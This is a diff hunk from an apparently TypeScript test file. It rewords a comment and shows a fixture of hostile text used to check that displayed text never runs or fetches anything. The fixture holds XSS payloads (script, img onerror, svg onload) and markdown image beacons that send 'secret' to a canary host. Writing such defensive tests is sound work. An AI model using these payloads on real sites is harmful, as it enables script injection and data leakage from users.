@@ -28,7 +28,7 @@ const LONG: Sample = {
   ),
 };
 
-/** What a hostile page would do, in every place where text is shown. Nothing of it may run or ask for anything. */
+/** What a hostile page would do, in every field where text is shown. Nothing of it may run or ask for anything. */
 const HOSTILE_TEXT = [
   "<script>window.__xss = 1</script><img src=x onerror='window.__xss = 1'><svg/onload=window.__xss=1>",
   "![beacon](https://canary.test/?d=secret) ![ref][r]\n\n[r]: https://canary.test/ref.png",
